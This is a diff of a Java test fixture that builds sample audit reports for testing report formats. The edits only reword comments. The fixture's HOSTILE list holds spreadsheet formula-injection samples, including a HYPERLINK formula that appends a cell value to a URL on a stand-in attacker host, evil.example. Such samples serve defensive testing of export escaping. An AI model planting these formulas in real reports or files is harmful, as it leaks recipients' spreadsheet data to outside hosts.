@@ -38,7 +38,7 @@ import java.util.function.Supplier;
 import java.util.stream.IntStream;
 import java.util.stream.Stream;
 
-/** Reports to write. */
+/** Sample reports for tests of report formats. */
 public record SampleReport(
         List<ReportedRegion> regions,
         List<ReportedDay> days,
@@ -53,7 +53,7 @@ public record SampleReport(
     private static final AccountRegion BEIJING = new AccountRegion("aws-cn", "210987654321", "cn-north-1");
     private static final List<RuleDefinition<?>> RULES = RuleBook.standard().definitions();
 
-    /** Texts that could harm who opens a report. */
+    /** Texts that could harm a person who opens a report. */
     public static final List<String> HOSTILE = List.of(
             "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
             "+1+1",
@@ -93,12 +93,15 @@ public record SampleReport(
                 .filter(finding -> !finding.isOpen() && !finding.updatedAt().isBefore(time));
     }
 
-    /** An audit that found nothing. */
+    /** A report without findings. */
     public static SampleReport nothing() {
         return new SampleReport(List.of(region(IRELAND)), List.of(), List.of(), Stream::empty);
     }
 
-    /** One finding of each rule and severity, open, and for each rule one that is exempted and one closed in each way. */
+    /**
+     * A report with one open finding of each rule and severity. For each rule, it also has one exempted finding, and
+     * one closed finding for each reason to close.
+     */
     public static SampleReport ofEachRule() {
         List<Finding> all = new ArrayList<>();
         for (RuleDefinition<?> rule : RULES) {
@@ -132,7 +135,7 @@ public record SampleReport(
                 all::stream);
     }
 
-    /** Findings on jobs with harmful names. */
+    /** A report with harmful texts in job names, reasons and targets. */
     public static SampleReport hostile() {
         RuleDefinition<?> rule = RULES.getFirst();
         List<Finding> all = HOSTILE.stream()
@@ -149,7 +152,7 @@ public record SampleReport(
         return new SampleReport(List.of(region(IRELAND)), List.of(), exemptions, all::stream);
     }
 
-    /** So many open findings, which are made while they are read. */
+    /** A report with {@code count} open findings, which are created while they are read. */
     public static SampleReport ofMany(int count) {
         return new SampleReport(
                 List.of(region(IRELAND)),
